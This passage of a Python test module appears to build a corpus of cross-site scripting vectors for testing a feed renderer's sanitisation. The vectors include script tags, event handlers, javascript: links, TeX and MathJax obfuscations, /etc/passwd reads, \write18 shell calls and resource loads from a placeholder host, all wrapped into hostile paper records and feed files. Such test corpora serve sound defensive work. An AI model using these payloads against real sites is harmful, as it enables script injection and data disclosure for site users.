    "subscript": 'H<sub>"><img src=x onerror=alert(1)></sub>O <i onclick=alert(1)>Gaia</i> <b><script></b>',
}
_TEX_ALONE: Texts = {
    "link": r"\href{javascript:alert(1)}{x}",
    "address": r"\url{javascript:alert(1)}",
    "angles as formulas": "$<$script$>$alert(1)$<$/script$>$",
    "angles by name": r"$\lt$img src=x onerror=alert(1)$\gt$",
    "angles as letters": r"\textless{}script\textgreater{}alert(1)\textless/script\textgreater",
    "angles as characters": r"\char60script\char62 \symbol{60}script\symbol{62} \char`\<script\char`\>",
    "angles after a backslash": r"\<script\>alert(1)\</script\>",
    "references": r"\&lt;script\&gt;alert(1)\&lt;/script\&gt; $\&$lt;script$\&$gt;",
    "references in braces": r"{\&}{l}{t}{;}script\&#62;alert(1)",
    "braces": "{<}script{>}alert(1){<}/script{>}",
    "accents": r"<scr\'{\i}pt>alert(1)</scr\'ipt> <\~{i}mg>",
    "style": rf"$\style{{background:url({AT}/t)}}{{x}} \class{{x}}{{y}} \cssId{{x}}{{y}}$",
    "MathJax": r"$\unicode{x3c}script\unicode{x3e} \require{html} \href{javascript:alert(1)}{x}$",
    "graphics": rf"\includegraphics{{{AT}/i}} \input{{/etc/passwd}} \write18{{ls}}",
    "comparison": "if $a<b$ and p<q then q>r, x<y>z, a<!b, c</d, e<?f",
}

_GROUPS: tuple[tuple[str, str, Texts], ...] = (
    ("script", "text", _SCRIPTS),
    ("script for filters", "", _SCRIPTS_FOR_FILTERS),
    ("handler", "text", _HANDLERS),
    ("svg", "text", _SVG),
    ("svg of old", "", _SVG_OF_OLD),
    ("maths", "text", _MATHS),
    ("maths elsewhere", "", _MATHS_ELSEWHERE),
    ("embedded", "text", _EMBEDDED),
    ("embedded once", "", _EMBEDDED_ONCE),
    ("document", "text", _DOCUMENT),
    ("document elsewhere", "", _DOCUMENT_ELSEWHERE),
    ("link", "text", _LINKS),
    ("link elsewhere", "", _LINKS_ELSEWHERE),
    ("address", "address", _ADDRESSES),
    ("address elsewhere", "", _ADDRESSES_ELSEWHERE),
    ("Markdown", "Markdown", _MARKDOWN),
    ("Markdown also", "", _MARKDOWN_ALSO),
    ("encoded", "decoded", _ENCODED),
    ("encoded elsewhere", "", _ENCODED_ELSEWHERE),
    ("double quotes", "double quotes", _DOUBLE),
    ("single quotes", "single quotes", _SINGLE),
    ("no quotes", "no quotes", _BARE),
    ("attributes elsewhere", "", _ATTRIBUTES_ELSEWHERE),
    ("title", "title", _TITLE),
    ("text area", "text area", _TEXTAREA),
    ("style", "style", _STYLE),
    ("style of one", "style of one", _CSS),
    ("comment", "comment", _COMMENT),
    ("abrupt comment", "text", _COMMENT_ABRUPT),
    ("comment of old", "", _COMMENT_OF_OLD),
    ("string", "string", _STRING),
    ("quoted string", "quoted string", _QUOTED),
    ("template literal", "template literal", _LITERAL),
    ("script elsewhere", "", _SCRIPT_ELSEWHERE),
    ("end", "text", _ENDS),
    ("mutation", "mutated", _MUTATIONS),
    ("mutation elsewhere", "", _MUTATIONS_ELSEWHERE),
    ("character", "text", _CHARACTERS),
    ("character elsewhere", "", _CHARACTERS_ELSEWHERE),
    ("direction", "text", _DIRECTION),
    ("direction elsewhere", "", _DIRECTION_ELSEWHERE),
    ("template", "", _TEMPLATES),
    ("CSS", "text", _STYLES),
    ("CSS of old", "", _STYLES_OF_OLD),
    ("source", "text", _SOURCES),
    ("source of old", "", _SOURCES_OF_OLD),
    ("dangling", "before a quotation", _DANGLING),
    ("dangling elsewhere", "", _DANGLING_ELSEWHERE),
    ("header", "", _HEADERS),
    ("XML", "XML", _XML),
    ("CDATA", "text", _CDATA),
    ("XML elsewhere", "", _XML_ELSEWHERE),
    ("alike", "", _ALIKE),
    ("TeX", "text", _TEX),
    ("TeX alone", "", _TEX_ALONE),
)
VECTORS = tuple(Vector(kind, name, text, place) for kind, place, texts in _GROUPS for name, text in texts.items())
TEXTS = tuple(vector.text for vector in VECTORS)


def _decoded(text: str) -> str:
    """`text` as somebody has it who decodes until nothing changes."""
    for _ in range(6):
        text = unescape(unquote(text))
    return f"<p>{text}</p>"


def _from_markdown(text: str) -> str:
    """`text` by a renderer that allows everything."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda _: True  # type: ignore[method-assign]
    return str(parser.render(text))


def _twice(text: str) -> str:
    """`text` in a page whose script reads what it has put there, and puts it there again."""
    quoted = json.dumps(text).replace("<", "\\u003c")
    return f"<p id=x></p><script>x.innerHTML = {quoted}; x.innerHTML = x.innerHTML</script>"


def _around(document: str) -> Callable[[str], str]:
    return lambda text: document.replace("…", text)


# Where somebody who does nothing about it would put a text: from a text to a document
PLACES: dict[str, Callable[[str], str]] = {
    "text": _around("<p>…</p><p>x</p>"),
    "before a quotation": _around("<p>…</p><p>It's an 'x'.</p>"),
    "double quotes": _around('<input value="…">'),
    "single quotes": _around("<input value='…'>"),
    "no quotes": _around("<input value=…>"),
    "address": _around('<a href="…">x</a>'),
    "title": _around("<title>…</title>"),
    "text area": _around("<textarea>…</textarea>"),
    "style": _around("<style>…</style><p>x</p>"),
    "style of one": _around('<p style="…">x</p>'),
    "comment": _around("<!-- … -->"),
    "string": _around('<script>var x = "…";</script>'),
    "quoted string": _around("<script>var x = '…';</script>"),
    "template literal": _around("<script>var x = `…`;</script>"),
    "mutated": _twice,
    "decoded": _decoded,
    "Markdown": _from_markdown,
    "XML": _around('<html xmlns="http://www.w3.org/1999/xhtml"><body>…</body></html>'),
}


def hostile_sheets() -> list[Sheet]:
    """A paper for each text, which is all that there is to it."""
    return [
        Sheet(
            id=f"2603.{number}",
            title=text,
            abstract=f"{text}\n  {text} end.",
            creator=f"{text}, Second {text} (Institute {text})",
            more={"arxiv:DOI": text, "arxiv:journal_reference": text},
        )
        for number, text in enumerate(TEXTS, 91000)
    ]


def hostile_feeds() -> str:
    """A feeds.toml: the main feed has all texts as keywords, and for each text there is a feed that is called so."""
    head = f"[instance]\ntitle = {_toml('<script>alert(1)</script>')}\n"
    keywords = [f"{_toml(text)} = 1" for text in dict.fromkeys(TEXTS)]
    main = '[feeds.main]\ntitle = "Main"\nmatch = "substring"\ncategories = ["cs.LG"]\n[feeds.main.keywords]\n'
    others = [
        f'[feeds.x{number}]\ntitle = {_toml(text)}\ndescription = {_toml(text)}\ncategories = ["cs.DC"]\n'
        for number, text in enumerate(TEXTS)
    ]
    return "\n".join([head, main, *keywords, *others])


def _toml(text: str) -> str:
    """`text` as a string of TOML."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def joined_texts(longest: int = 700) -> list[str]:
    """All texts in fewer ones, each of about that length at most."""
    out = [""]
    for text in TEXTS:
        if len(out[-1]) + len(text) > longest:
            out.append("")
        out[-1] += f"{text} "
    return out
